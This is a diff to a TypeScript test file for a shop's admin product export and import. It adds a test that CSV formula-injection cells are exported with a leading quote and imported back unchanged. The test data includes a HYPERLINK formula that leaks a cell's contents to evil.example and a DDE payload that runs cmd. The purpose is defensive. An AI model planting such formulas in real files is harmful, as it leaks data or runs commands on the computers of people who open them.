@@ -2,6 +2,7 @@
 // nothing; a real import writes nothing when a row is bad, else creates and updates in one transaction, audited;
 // an export imports back unchanged, into the same shop or an empty one.
 import type { AdminProduct, ImportReport, ProductInputDraft } from '@shop/shared/admin.schemas';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { admin, auditRows, createdProductId, editOf, productForm } from '../../../test/admin-helpers.ts';
 import { placeCod, type Shopper, shopper, stockOf } from '../../../test/order-helpers.ts';
@@ -346,6 +347,43 @@ describe('a file from an older export (docs/decisions/019)', () => {
     expect(real.json()).toMatchObject({ imported: true, updated: 1, stockChanges: [] });
     expect(await adminProduct(id)).toMatchObject({ name: 'Tillery Serrated Bread Knife', countInStock: 7 });
     expect(await stockOf(t, id)).toBe(7);
+  });
+});
+
+describe('CSV cells a spreadsheet would run as formulas (issue 17 item 7)', () => {
+  const hostile = {
+    name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+    description: "+cmd|' /C calc'!A0",
+    brand: '@SUM(A1:A9)',
+    subCategory: '-2+3',
+  };
+
+  it('exports them as text, with a leading quote, and imports them back unchanged', async () => {
+    const ids = [
+      await createdProductId(t, boss, productForm(hostile)),
+      await createdProductId(t, boss, productForm({ name: "'=already quoted", brand: "'plain quote" })),
+    ];
+    const csv = await exported(t, boss, 'csv');
+    const records = parse(csv, { columns: true }) as Record<string, string>[];
+    for (const record of records) {
+      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const [first, second] = ids.map((id) => records.find((record) => record.id === id));
+    expect(first).toMatchObject({
+      name: `'${hostile.name}`,
+      description: `'${hostile.description}`,
+      brand: `'${hostile.brand}`,
+      subCategory: `'${hostile.subCategory}`,
+    });
+    // A value that already starts with a quote and a formula character gets one more quote; other quotes stay.
+    expect(second).toMatchObject({ name: "''=already quoted", brand: "'plain quote" });
+
+    const json = await exported(t, boss, 'json');
+    const back = await importFile(t, boss, csv, { type: 'text/csv', dryRun: false });
+    expect(back.statusCode, back.body).toBe(200);
+    expect(await exported(t, boss, 'json')).toBe(json);
+    expect(await adminProduct(ids[0] ?? '')).toMatchObject(hostile);
+    expect((await adminProduct(ids[1] ?? '')).name).toBe("'=already quoted");
   });
 });
 
